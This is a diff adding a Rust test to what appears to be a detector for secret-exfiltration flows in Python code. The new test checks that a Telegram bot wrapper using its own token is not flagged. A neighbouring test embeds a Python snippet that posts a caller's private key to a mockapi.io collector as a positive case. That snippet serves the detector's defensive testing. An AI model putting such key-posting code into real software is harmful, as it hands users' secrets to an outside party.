@@ -649,6 +649,16 @@ fn option_defaults_are_not_a_url_written_in_the_code() {
 }
 
 #[test]
+fn a_bot_wrapper_posting_with_its_own_token_is_not_carrying_it_off() {
+    // A progress-bar helper that reports to a chat bot: the caller's bot token is the bot API's own.
+    let bot = py("import requests\n\nclass ChatIO:\n    API = 'https://api.telegram.org/bot'\n    def __init__(self, token, chat_id):\n        self.session = requests.Session()\n        self.session.post(self.API + f'{token}/sendMessage', data={'chat_id': chat_id, 'text': 'started'})\n");
+    assert!(
+        !bot.iter().any(|f| f.0 == FlowKind::EnvironmentToNetwork),
+        "{bot:?}"
+    );
+}
+
+#[test]
 fn a_key_the_caller_passes_sent_to_a_collector_is_carried_off() {
     // A wallet helper posts the private key it is given to a mock-API bin.
     let leak = py("import requests\n\ndef sign(private_key):\n    url = 'https://5f0c1a.mockapi.io/keys'\n    requests.post(url, json={'k': private_key})\n    return True\n");
